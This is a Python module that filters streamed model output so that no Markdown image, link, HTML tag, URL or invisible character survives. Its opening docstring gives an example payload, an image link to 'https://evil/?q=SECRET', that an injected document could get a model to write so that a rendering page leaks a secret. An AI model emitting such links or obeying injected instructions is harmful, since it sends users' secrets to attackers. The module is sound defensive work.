"""Model text made harmless as it streams: no image, no link, no HTML, no control, no invisible character.

A document can tell a model to write `![](https://evil/?q=SECRET)`; a page that renders it sends the secret. So nothing that a
Markdown or HTML renderer turns into a link, an image or a tag leaves this file, however it is cut into stream chunks. The rule is
by construction, not by a list of attacks: `<` and `>` never pass, `[` passes only as a citation `[3]` that cannot start a
link, and every word with an address in it is dropped, or quoted as code where a source has the very same address.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Callable

_HOLD = 600  # characters held back at most while a construct is open; then it is made literal
_ANSI = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)|[@-Z\\-_])?")
_TAG = re.compile(r"<(?:!--.*?-->|[/!?]?[A-Za-z][^<>]*>)", re.DOTALL)
_ACTIVE = re.compile(r"<(script|style|iframe|object|svg)\b[^<>]*>.*?</\1\s*>", re.DOTALL | re.IGNORECASE)
_IMAGE_OR_LINK = re.compile(r"!?\[([^\[\]]*)\]\s?(?:\([^()]*(?:\([^()]*\)[^()]*)*\)|\[[^\[\]]*\])")
_DEFINITION = re.compile(r"(?m)^\s{0,3}\[[^\[\]\n]+\]:.*$")
_CITATION = re.compile(r"\[\d{1,3}(?:\s*[,，、]\s*\d{1,3})*\]")
_SCHEME = r"(?:[A-Za-z][A-Za-z0-9+.\-]{1,20}:(?:/|\\){1,}|(?:javascript|vbscript|data|mailto|tel|file|blob|sms):|(?<![:\w/])//(?=\w))"
_WWW = r"(?:www\d?\.)"
_DOMAIN = r"(?:[A-Za-z0-9\u00a1-\uffff](?:[\w\-\u00a1-\uffff]{0,62})\.)+[A-Za-z\u00a1-\uffff]{2,24}"
_ASCII_DOMAIN = r"(?:[A-Za-z0-9](?:[A-Za-z0-9\-]{0,62})\.)+[A-Za-z]{2,24}"
_REST = r"[^\s<>`\"“”，。；！？、（）【】「」]*"
_ADDRESS = re.compile(
    rf"(?:{_SCHEME}|{_WWW}){_REST}|[\w.+\-]+@{_ASCII_DOMAIN}{_REST}|{_ASCII_DOMAIN}(?:[:/?#]{_REST})|{_ASCII_DOMAIN}(?![\w.])",
    re.IGNORECASE,
)
# Endings that look like a domain but are files or abbreviations in documents.
_FILE_ENDINGS = frozenset(
    [
        "md",
        "txt",
        "pdf",
        "doc",
        "docx",
        "xls",
        "xlsx",
        "ppt",
        "pptx",
        "csv",
        "json",
        "xml",
        "yaml",
        "yml",
        "toml",
        "html",
        "htm",
        "png",
        "jpg",
        "jpeg",
        "gif",
        "svg",
        "zip",
        "gz",
        "tar",
        "eml",
        "msg",
        "epub",
        "py",
        "js",
        "ts",
        "java",
        "go",
        "rs",
        "c",
        "h",
        "cpp",
        "sh",
        "bat",
        "exe",
        "log",
        "ini",
        "cfg",
        "conf",
        "sql",
        "db",
        "bak",
        "tmp",
        "g",
        "e",
    ]
)
_STRIPPED_CATEGORIES = frozenset({"Cc", "Cf", "Co", "Cs", "Cn"})


class OutputFilter:
    """Stream of model text in, stream of harmless text out. `grounded(word)` says whether a source has that very address."""

    def __init__(self, grounded: Callable[[str], bool] = lambda _: False) -> None:
        self._grounded = grounded
        self._pending = ""
        self._last = ""  # the last character that left, so that borders between pieces cannot form a construct

    def feed(self, delta: str) -> str:
        """What may be shown after `delta`; may be empty while a construct is open."""
        self._pending += delta
        cut = _safe_cut(self._pending)
        if cut == 0:
            return ""
        piece, self._pending = self._pending[:cut], self._pending[cut:]
        return self._emit(piece)

    def finish(self) -> str:
        """What was still held back."""
        piece, self._pending = self._pending, ""
        return self._emit(piece)

    def _emit(self, piece: str) -> str:
        out = make_safe(piece, self._grounded)
        if self._last == "]" and out[:1] in ("(", ":"):
            out = " " + out
        if self._last == "!" and out[:1] == "[":
            out = " " + out
        if out:
            self._last = out[-1]
        return out


def safe_text(text: str, grounded: Callable[[str], bool] = lambda _: False) -> str:
    """All of `text` made harmless at once."""
    stream = OutputFilter(grounded)
    return stream.feed(text) + stream.finish()


def make_safe(piece: str, grounded: Callable[[str], bool]) -> str:
    """A piece that holds no half construct, made harmless."""
    text = strip_invisible(piece)
    if "&" in text:
        text = strip_invisible(html.unescape(html.unescape(text)))
    text = _DEFINITION.sub("", text)
    text = _ACTIVE.sub("", text)
    text = _TAG.sub("", text)
    for _ in range(3):  # links inside link texts
        text, found = _IMAGE_OR_LINK.subn(_link_text, text)
        if not found:
            break
    kept: list[str] = []
    text = _literal(_ADDRESS.sub(lambda m: _address(m, grounded, kept), text))
    return re.sub("\ue000(\\d+)\ue001", lambda m: f"`{kept[int(m.group(1))]}`", text)


def strip_invisible(text: str) -> str:
    """`text` without terminal sequences, control, zero-width, bidi, tag and variation characters; line breaks and tabs stay."""
    if text.isascii() and text.isprintable():
        return text
    text = _ANSI.sub("", text).replace("\r\n", "\n").replace("\u2028", "\n").replace("\u2029", "\n")
    return "".join(
        c
        for c in text
        if c in "\n\t"
        or (
            unicodedata.category(c) not in _STRIPPED_CATEGORIES
            and not "\ufe00" <= c <= "\ufe0f"
            and not "\U000e0100" <= c <= "\U000e01ef"
            and c not in "\u115f\u1160\u3164\uffa0\u2800"  # letters that show nothing
        )
    )


def _link_text(match: re.Match[str]) -> str:
    text = match.group().lstrip("!")
    if _CITATION.fullmatch(f"[{match.group(1)}]"):
        following = text[text.index("]") + 1 :].strip()
        return text if _CITATION.fullmatch(following) else f"[{match.group(1)}]"  # "[1][2]" are two citations
    return "" if match.group().startswith("!") else match.group(1)


def _address(match: re.Match[str], grounded: Callable[[str], bool], kept: list[str]) -> str:
    """Nothing, or the place of an address that is kept as code. Its marks are private characters, which never come in."""
    word = match.group().rstrip(".,;:!?)]}'*_~")
    rest = match.group()[len(word) :]
    low = word.lower()
    plain = re.fullmatch(_ASCII_DOMAIN, word) is not None
    if plain and (low.rpartition(".")[2] in _FILE_ENDINGS or low in ("e.g", "i.e", "a.m", "p.m")):
        return match.group()
    dangerous = re.match(r"(?:javascript|vbscript|data|blob|file):", low)
    if not dangerous and not any(c in word for c in "?#%=&`") and grounded(word):
        kept.append(word)
        return f"\ue000{len(kept) - 1}\ue001{rest}"
    return rest


def _literal(text: str) -> str:
    """The last word: what is left of brackets and angle brackets cannot start anything."""
    out = []
    at = 0
    for match in _CITATION.finditer(text):
        before = text[at : match.start()]
        out.append(_flat(before))
        if before.endswith("!"):
            out.append(" ")
        out.append(match.group())
        at = match.end()
        if text[at : at + 1] in ("(", ":") and text[at : at + 1]:
            out.append(" ")
    out.append(_flat(text[at:]))
    return "".join(out)


_FLAT = str.maketrans({"<": "＜", ">": "＞", "[": "［", "]": "］"})


def _flat(text: str) -> str:
    return re.sub(r"(?<=\w):(?=//)|(?<=:)//", " ", text.translate(_FLAT))


def _safe_cut(text: str) -> int:
    """How much of `text` holds no construct that could still grow."""
    if len(text) > _HOLD:
        # Too long to wait for: everything but the last word is released, and made literal.
        return max(text.rfind(" ", 0, len(text)), text.rfind("\n"), 0) + 1 if re.search(r"\s", text) else len(text)
    cut = _word_border(text)
    head = text[:cut]
    for opening, closing in (("[", "]"), ("<", ">")):
        at = head.rfind(opening)
        if at >= 0 and closing not in head[at:]:
            return _before(head, at)
    # After "]" the next character decides whether it was a link; after "](" the closing parenthesis.
    tail = re.search(r"(?:!?\[[^\[\]]*\]\s?)+(?:[(\[][^()\[\]]*(?:\([^()]*\)[^()]*)*)?$", head)
    if tail:
        return _before(head, tail.start())
    active = re.search(r"<(script|style|iframe|object|svg)\b", head, re.IGNORECASE)
    if active and not re.search(rf"</{active.group(1)}\s*>", head, re.IGNORECASE):
        return active.start()
    if (line := head.rfind("\n") + 1) < len(head) and re.match(r"\s{0,3}\[[^\[\]\n]+\]:", head[line:]):
        return line
    if head.endswith(("!", "\x1b")):
        return len(head) - 1
    return len(head)


def _before(head: str, at: int) -> int:
    while at > 0 and head[at - 1] in "!\\\x1b":
        at -= 1
    return at


def _word_border(text: str) -> int:
    """Where the last, perhaps unfinished, word begins. Chinese characters are words of their own."""
    at = len(text)
    while at > 0 and not text[at - 1].isspace() and not "\u3000" <= text[at - 1] <= "\u9fff":
        at -= 1
    return at
